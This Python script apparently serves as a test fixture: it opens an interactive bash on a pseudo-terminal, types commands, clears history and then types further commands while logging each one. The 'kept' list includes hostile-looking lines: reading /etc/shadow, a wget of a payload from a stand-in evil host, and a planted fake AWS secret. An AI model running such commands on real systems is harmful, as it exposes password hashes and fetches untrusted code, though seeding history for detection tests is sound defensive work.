"""Types commands into an interactive bash on a pty and tells when; the shell stays open."""

import os
import pty
import signal
import time
from pathlib import Path

SECRET = "typed-secret-" + os.urandom(8).hex()
CLEARED = ["cd /srv/ram", "ls -la", f"echo {SECRET}-cleared"]
KEPT = [
    "echo after-clear",
    f"echo {SECRET}",
    "head -n 2 /etc/shadow",
    "wget -q evil.example/payload.sh",
    "# ssh admin@10.0.2.99",
    "export AWS_SECRET=AKIAFAKE",
    "uname -a",
]


def drain() -> None:
    """Read what the shell printed until it stays silent; a full pty would stop it."""
    os.set_blocking(terminal, False)
    quiet = 0
    while quiet < 4:
        try:
            quiet = 0 if os.read(terminal, 65536) else quiet + 1
        except BlockingIOError:
            quiet += 1
        time.sleep(0.1)


def enter(command: str, fate: str) -> None:
    with Path("/run/census/typed").open("a") as typed:
        typed.write(f"{time.time():.6f} {fate} {command}\n")
    os.write(terminal, command.encode() + b"\n")
    drain()


child, terminal = pty.fork()
if child == 0:
    os.environ["HISTFILE"] = "/srv/admin/.bash_history"
    os.environ["HISTTIMEFORMAT"] = "%F %T "
    os.execv("/bin/bash", ["bash", "-i"])  # noqa: S606  # no shell in between: it is the shell
drain()
for line in CLEARED:
    enter(line, "cleared")
enter("history -c", "clears")
for line in KEPT:
    enter(line, "kept")
with Path("/run/census/known").open("a") as known:
    known.write(f"typed-secret {SECRET}\n")
Path("/run/census/ready/typist").touch()
while True:
    signal.pause()
